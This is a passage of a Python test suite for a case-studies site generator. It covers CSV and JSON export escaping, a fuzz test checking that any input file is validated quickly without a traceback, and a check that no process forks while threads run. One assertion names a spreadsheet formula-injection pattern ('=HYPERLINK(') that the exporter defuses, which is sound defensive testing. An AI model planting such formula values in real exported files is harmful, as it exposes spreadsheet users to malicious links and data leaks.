    csv_text = (tmp_path / "site" / "data" / "casestudies.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in csv_text and ",=HYPERLINK(" not in csv_text and ",\"=HYPERLINK(" not in csv_text
    assert "'-1 We met" in csv_text
    assert f'"title": "{title.replace(chr(34), chr(92) + chr(34))}"' in \
        (tmp_path / "site" / "data" / "casestudies.json").read_text(encoding="utf-8")  # JSON keeps it exactly
    assert "has an apostrophe (') put before it" in (tmp_path / "site" / "data" / "index.html").read_text(
        encoding="utf-8")


# --- Any file at all: never a traceback, always quick ----------------------------------------------------------

MARKDOWNISH = "#*_[]()!<>&`|-+=>~:;.,'\"\\/%{}@ \t\n0123456789aAzZ"
ANY_CHARACTER = st.characters(codec="utf-8")  # every kind of whitespace and control character among them
WORDS = st.text(st.one_of(st.sampled_from(MARKDOWNISH), ANY_CHARACTER), max_size=200)
FIELD_NAMES = st.sampled_from(["title", "number", "summary", "organisation", "actions", "groups", "updated", "service",
                               "checked", "listed_as", "acitons", "x"])
VALUES = st.one_of(st.integers(-10**20, 10**20), WORDS.map(lambda text: '"' + text.replace('"', '\\"') + '"'), WORDS,
                   st.lists(WORDS, max_size=5).map(lambda items: "[" + ", ".join(f'"{i}"' for i in items) + "]"),
                   st.sampled_from(["2024-02-30", "2010-11-30", "!!int abc", "&a [1]", "*a", "[[[[", "{a: b}", "~"]))
VALID = casestudy(1).split("---\n")[1].rstrip("\n").split("\n")  # so that the body is rendered
FRONT = st.one_of(st.just(VALID), st.lists(st.tuples(FIELD_NAMES, VALUES).map(lambda pair: f"{pair[0]}: {pair[1]}"),
                                            max_size=12))
RUNS = st.sampled_from(["[", "- ", "  - ", "> ", "*", "_", "![", "](", "`", "<", "&#", "\\", "|", "    ", "1. ", "#"])
BODY = st.one_of(WORDS, st.lists(WORDS, max_size=40).map("\n".join),
                 st.tuples(WORDS.filter(bool), st.integers(1, 64 * 1024)).map(lambda t: (t[0] * t[1])[:64 * 1024]),
                 st.tuples(st.lists(RUNS, min_size=1, max_size=3).map("".join), st.integers(1, 30_000),
                           st.booleans()).map(lambda t: ((t[0] + "\n") if t[2] else t[0]) * t[1] + "x"))


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small content folder whose first case study the property test replaces."""
    return write_content(tmp_path_factory.mktemp("any"))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(front=FRONT, body=BODY, fence=st.booleans())
def test_any_file_is_checked_quickly_and_without_a_traceback(scratch: Path, front: list[str], body: str,
                                                              fence: bool) -> None:
    text = "---\n" + "\n".join(front) + ("\n---\n" if fence else "\n") + body
    (scratch / "casestudies" / "01-friends-of-parks.md").write_bytes(text.encode("utf-8", "surrogatepass"))
    started = time.perf_counter()
    try:
        pipeline.check(pipeline.Paths(scratch, scratch.parent / "site"), strict=True)
    except ContentError as error:
        assert all(len(str(problem)) < 600 for problem in error.problems)
    assert time.perf_counter() - started < 1.0, f"{len(text):,} characters took too long"


NO_FORK_WITH_THREADS = """
import os, threading
from portal import parallel
def pid(_item): return os.getpid()
alone = set(parallel.map_in_order(pid, list(range(400)), 10))
stop = threading.Event()
threading.Thread(target=stop.wait).start()
with_thread = set(parallel.map_in_order(pid, list(range(400)), 10))
stop.set()
print(len(alone - {os.getpid()}) > 0, with_thread == {os.getpid()})
"""


def test_no_process_is_forked_while_other_threads_run() -> None:
    done = subprocess.run([sys.executable, "-c", NO_FORK_WITH_THREADS], cwd=PROJECT, capture_output=True, text=True,
                          check=True)  # a process of its own: the tests' may have threads of their own
    assert done.stdout.split() == ["True", "True"]  # workers alone; none while another thread runs (the dev server)
